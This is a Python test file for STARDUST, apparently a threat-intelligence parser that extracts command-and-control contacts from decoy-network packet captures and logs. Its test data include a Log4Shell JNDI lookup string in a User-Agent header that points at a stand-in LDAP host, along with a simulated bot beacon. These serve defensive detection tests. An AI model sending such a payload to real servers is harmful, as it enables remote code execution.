"""STARDUST: whom the hosts of a decoy network called, from packets and from logs."""

import re
from collections import Counter
from datetime import UTC, datetime
from ipaddress import ip_address
from pathlib import Path

import pytest

from cure.interfaces import Input, Reading
from cure.model.finding import complete
from cure.origins.files import inputs, paths_of
from cure.publishers.stardust import PUBLISHER, read
from formats.capture_writer import (
    ACK,
    PSH,
    SYN,
    arp,
    client_hello,
    dns,
    dns_name,
    ethernet,
    icmp,
    ip,
    pcapng,
    tcp,
    udp,
)

NOW = datetime(2026, 12, 31, tzinfo=UTC)
SAMPLES = Path(__file__).parent / "samples" / "stardust"
SHARED = Path(__file__).parents[3] / "shared" / "data"
REAL = SHARED / "stardust"
HOST, RESOLVER, C2, VISITOR = "10.0.0.5", "10.0.0.1", "203.0.113.7", "198.51.100.9"
GET = b"GET /gate.php HTTP/1.1\r\nHost: c2.example.com\r\nUser-Agent: bot/1\r\n\r\n"
LOOKUP = b"GET / HTTP/1.1\r\nHost: 10.0.0.5\r\nUser-Agent: ${jndi:ldap://203.0.113.8/a}\r\n\r\n"
ANSWER = dns("c2.example.com", (5, dns_name("cdn.example.net")), (1, ip_address(C2).packed))
INWARD = (
    b'{"Type":"VMConnection","TimeGenerated":"2026-01-02T10:00:00Z","SourceIp":"10.0.0.5",'
    b'"DestinationIp":"10.0.0.6","DestinationPort":80,"Protocol":"tcp"}'
)
OWN_NAME = dns("dc.corp.example.com", (1, ip_address("10.0.0.2").packed))
REVERSE = dns("7.113.0.203.in-addr.arpa", (12, dns_name("host.example.com")))


def sent(source: str, target: str, carried: tuple[int, bytes]) -> bytes:
    return ethernet(ip(source, target, carried))


SAMPLE = pcapng(
    (0, sent(HOST, RESOLVER, udp(5_000, 53, dns("c2.example.com", is_response=False)))),
    (0.1, sent(RESOLVER, HOST, udp(53, 5_000, ANSWER))),
    (1, sent(HOST, C2, tcp(50_000, 8_080, SYN))),
    (1.1, sent(C2, HOST, tcp(8_080, 50_000, SYN | ACK))),
    (1.2, sent(HOST, C2, tcp(50_000, 8_080, PSH | ACK, GET))),
    (2, sent(HOST, C2, tcp(50_001, 443, PSH | ACK, client_hello("c2.example.com")))),
    (3, sent(VISITOR, HOST, tcp(40_000, 60_000, SYN))),
    (3.1, sent(HOST, VISITOR, tcp(60_000, 40_000, SYN | ACK))),
    (3.2, sent(VISITOR, HOST, tcp(40_000, 60_000, PSH | ACK, LOOKUP))),
    (4, sent(RESOLVER, HOST, udp(53, 5_001, OWN_NAME))),
    (5, sent(RESOLVER, HOST, udp(53, 5_002, REVERSE))),
    (6, sent(HOST, RESOLVER, tcp(50_002, 445, SYN))),
    (7, sent(HOST, "239.255.255.250", udp(50_003, 1_900, b"M-SEARCH"))),
    (8, sent("198.51.100.1", HOST, icmp(3))),
    (9, arp()),
)


def read_file(file: bytes) -> list[Reading]:
    return list(read(Input(name="x", as_of=NOW, lines=iter(()), blocks=[file], head=file[:4096])))


def read_lines(*lines: bytes) -> list[Reading]:
    return list(read(Input(name="x", as_of=NOW, lines=iter(lines), head=b"\n".join(lines)[:4096])))


def test_the_sample_is_what_its_maker_makes():
    assert (SAMPLES / "capture" / "input.pcapng").read_bytes() == SAMPLE


def test_every_packet_is_in_one_reading():
    found = read_file(SAMPLE)
    assert sum(one.lines for one in found) == 15
    assert not any(one.why for one in found)


def test_no_own_address_or_name_is_told():
    told = repr([reading.findings for reading in read_file(SAMPLE)])
    assert not re.search(r"10\.0\.0\.|corp|arpa", told)


@pytest.mark.parametrize(
    "line",
    [
        b'{"Type":"Heartbeat","TimeGenerated":"2026-01-02T10:00:00Z"}',
        b'{"Type":"Syslog"}',
        b'{"Type":"VMConnection","TimeGenerated":"2026-01-02T10:00:00Z","SourceIp":"a"}',
        b"hello",
    ],
)
def test_a_line_of_no_known_log_is_quarantined(line):
    (reading,) = read_lines(line)
    assert reading.why


@pytest.mark.parametrize(
    "line",
    [
        b"",
        b'{"Type":"Syslog","TimeGenerated":"2026-01-02T10:00:00Z","ProcessName":"sshd"}',
        INWARD,
    ],
)
def test_a_line_about_the_own_side_is_silent(line):
    (reading,) = read_lines(line)
    assert (reading.findings, reading.why) == ((), "")


needs_real = pytest.mark.skipif(not REAL.is_dir(), reason="the shared data are not here")


def real(*paths: Path) -> tuple[Counter[str], dict[str, set[str]]]:
    """Return what became of the lines, and which values had which roles."""
    fates: Counter[str] = Counter()
    values: dict[str, set[str]] = {}
    for path in paths_of([*paths]):
        for source in inputs(path, NOW):
            for reading in PUBLISHER.read(source):
                fate = "quarantined" if reading.why else "spoke" if reading.findings else "silent"
                fates[fate] += reading.lines
                for finding in reading.findings:
                    for one in complete(finding, NOW, NOW).observables:
                        values.setdefault(one.role, set()).add(one.value)
    return fates, values


@needs_real
def test_the_icedid_capture_tells_all_that_the_report_of_its_makers_names():
    fates, values = real(REAL / "pcap" / "2021-03-15-IcedID-infection.trunc.pcap.gz")
    assert fates == {"spoke": 4_304, "silent": 7}
    report = SHARED / "social_media" / "unit42" / "2021-03-15-IOCs-from-IcedID-infection.txt"
    traffic = report.read_text("utf-8").replace("[.]", ".").partition("\nTRAFFIC TO ")[2]
    addresses = set(re.findall(r"\d+\.\d+\.\d+\.\d+(?= port)", traffic))
    names = set(re.findall(r"(?<= - )[a-z0-9.-]+\.(?:com|space|fun)\b", traffic))
    assert (len(addresses), len(names)) == (5, 4)
    assert addresses | names <= values["target"] | values["host"]
    assert "http://45.140.146.34/44270.7145450231.dat" in values["target"]
    assert names <= values["queried"]
    assert {"178.128.243.14", "165.227.28.47"} <= values["resolved"]


@needs_real
def test_logs_of_laboratories_whose_attackers_are_inside_tell_no_attacker():
    fates, values = real(REAL / "zeek")
    assert fates == {"spoke": 94, "silent": 3_490}
    assert values.keys() == {"queried", "alias", "resolved", "sample", "file"}
    assert not [name for name in values["queried"] if "pandalab" in name or "dmevals" in name]


@needs_real
def test_of_the_logs_of_hosts_only_a_line_that_was_cut_off_is_quarantined():
    fates, values = real(REAL / "host")
    assert fates == {"spoke": 2, "silent": 95, "quarantined": 1}
    assert values["target"] == {"104.46.127.225", "13.89.179.10"}


@needs_real
def test_captures_of_quiet_and_of_private_networks_are_read_whole():
    fates, values = real(REAL / "pcap" / "brimcap-alerts.pcap.gz")
    assert fates == {"spoke": 1_386, "silent": 614}
    assert "attacker" not in values
    fates, values = real(REAL / "pcap" / "pcap_log4shell_cve2021_44228_jndi_reference.zip")
    assert (fates, values) == ({"silent": 67}, {})
